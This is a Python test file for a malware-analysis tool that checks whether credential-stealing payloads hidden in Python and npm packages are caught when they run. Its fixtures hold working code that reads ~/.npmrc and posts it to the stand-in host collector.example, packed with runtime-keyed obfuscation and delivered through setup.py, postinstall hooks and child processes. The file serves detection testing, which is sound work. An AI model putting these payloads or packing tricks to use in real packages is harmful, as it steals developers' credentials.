"""Payloads that exist only while they run: found, read like files, and the reason of a verdict."""

import base64
import json
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from biopsy.model.behaviour import Behaviour, InFile, InTrace, Kind, When
from biopsy.model.dossier import Dossier
from biopsy.model.release import Tree, TreeFile
from biopsy.model.run import Evaluated, Run, Watch
from biopsy.pipeline import Options, analyze, evaluated

PYTHON = """import os, urllib.request
try:
    data = open(os.path.expanduser('~/.npmrc')).read()
    urllib.request.urlopen('https://collector.example/%s', data=data.encode())
except OSError:
    pass
"""
NODE = """const os = require('os'), fs = require('fs'), https = require('https')
const data = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')
const sent = https.request({ host: 'collector.example', path: '/%s', method: 'POST' })
sent.on('error', () => {}).end(data)
"""


def _packed(code: str) -> str:
    """Wrap code so that reading cannot unwrap it: the key is what the interpreter says of itself."""
    data = base64.b64encode(bytes(byte ^ 3 for byte in zlib.compress(code.encode()))).decode()
    return f"import base64,sys,zlib\nexec(zlib.decompress(bytes(b ^ sys.version_info[0] for b in base64.b64decode({data!r}))))\n"


def _rotated(code: str) -> str:
    """Wrap code in an array of strings that is turned first, by as much as the process tells."""
    text = base64.b64encode(code.encode()).decode()
    parts = [text[at : at + 20] for at in range(0, len(text), 20)]
    turned = parts[2:] + parts[:2]
    return (
        f"const a={json.dumps(turned)};for(let i=process.versions.node.length*0+a.length-2;i>0;i--)a.push(a.shift());"
        "new Function('require','process','Buffer',Buffer.from(a.join(''),'base64').toString())(require,process,Buffer)\n"
    )


def _run(*texts: Evaluated, behaviours: tuple[Behaviour, ...] = ()) -> Run:
    return Run("laptop", behaviours, (), (), (), (), Watch("laptop"), texts)


def _text(code: str, phase: str = "import", **more: object) -> Evaluated:
    from hashlib import sha256

    identity = sha256(code.encode()).hexdigest()[:16]
    return Evaluated(identity, "exec", code, True, 1, phase, "laptop", 1, **more)  # type: ignore[arg-type]


def test_a_text_is_read_once_at_its_earliest_moment(tmp_path: Path) -> None:
    one, two = _text("import os\nos.system('id')", "execute"), _text("import os\nos.system('id')", "install")
    seen = evaluated.read((_run(one), _run(two)), tmp_path)
    assert {b.where for b in seen} == {InFile(one.path, 2, When.INSTALL)}


def test_what_is_a_file_of_the_tree_is_not_told_again(tmp_path: Path) -> None:
    from hashlib import sha256

    code = "import os\n"
    one, inner = _text(code), _text("x = 1", parent=_text(code).id)
    told = tuple(
        Behaviour(Kind.CODE_EVAL, "exec", InTrace("import", n, "laptop"), detail=f"{e.id}: …")
        for n, e in enumerate((one, inner), 1)
    )
    tree = Tree(tmp_path, (TreeFile("a.py", len(code), sha256(code.encode()).hexdigest()),))
    run = evaluated.own(_run(one, inner, behaviours=told), tree)
    assert [(e.text, e.parent) for e in run.evaluated] == [("x = 1", "")]
    assert run.behaviours == told[1:]


def _dossier(folder: Path, home: Path) -> Dossier:
    options = Options(home=home, profiles=("laptop",), phases=("install", "import"), against="none")
    (analysis,) = analyze(str(folder), options, lambda _text, _done: None)
    return analysis.dossier


def _says(dossier: Dossier) -> Callable[[str], set[str]]:
    def says(text: str) -> set[str]:
        one = next(one for one in dossier.evaluated if one.text == text)
        places = {b.where.path for b in dossier.behaviours if isinstance(b.where, InFile) and b.where.line}
        assert one.path in places, f"nothing was read in {one.path}"
        return {
            str(b)
            for b in dossier.behaviours
            if isinstance(b.where, InFile) and b.where.path == one.path and b.kind is Kind.CODE_FLOW
        }

    return says


@pytest.mark.sandbox
def test_a_payload_packed_twice_is_read_wherever_python_runs_it(tmp_path: Path, home: Path) -> None:
    folder = tmp_path / "sim"
    (folder / "sim_hidden").mkdir(parents=True)
    body = _packed(_packed(PYTHON % "import"))
    child = f"import subprocess, sys\nsubprocess.run([sys.executable, '-S', '-c', {_packed(PYTHON % 'child')!r}])\n"
    (folder / "sim_hidden" / "__init__.py").write_text(child + body)
    setup = "from setuptools import setup\nsetup(name='sim-hidden', version='1.0', packages=['sim_hidden'])\n"
    (folder / "setup.py").write_text(_packed(_packed(PYTHON % "setup")) + setup)
    dossier = _dossier(folder, home)
    says = _says(dossier)
    assert {when: bool(says(PYTHON % when)) for when in ("setup", "import", "child")} == dict.fromkeys(
        ("setup", "import", "child"), True
    )
    inner = next(one for one in dossier.evaluated if one.text == PYTHON % "setup")
    assert inner.phase == "install"
    assert inner.parent in {one.id for one in dossier.evaluated}
    assert len(dossier.evaluated) == 6, [
        one.text[:80] for one in dossier.evaluated
    ]  # and nothing of any tool's


@pytest.mark.sandbox
def test_a_payload_packed_twice_is_read_wherever_node_runs_it(tmp_path: Path, home: Path) -> None:
    folder = tmp_path / "sim"
    folder.mkdir()
    scripts = {"postinstall": "node setup.js"}
    manifest = {"name": "sim-hidden", "version": "1.0.0", "main": "index.js", "scripts": scripts}
    (folder / "package.json").write_text(json.dumps(manifest))
    (folder / "setup.js").write_text(_rotated(_rotated(NODE % "install")))
    child = f"require('child_process').spawnSync(process.execPath, ['-e', {json.dumps(_rotated(NODE % 'child'))}], {{ env: {{}} }})\n"
    (folder / "index.js").write_text(child + _rotated(_rotated(NODE % "import")))
    dossier = _dossier(folder, home)
    says = _says(dossier)
    assert {when: bool(says(NODE % when)) for when in ("install", "import", "child")} == dict.fromkeys(
        ("install", "import", "child"), True
    )
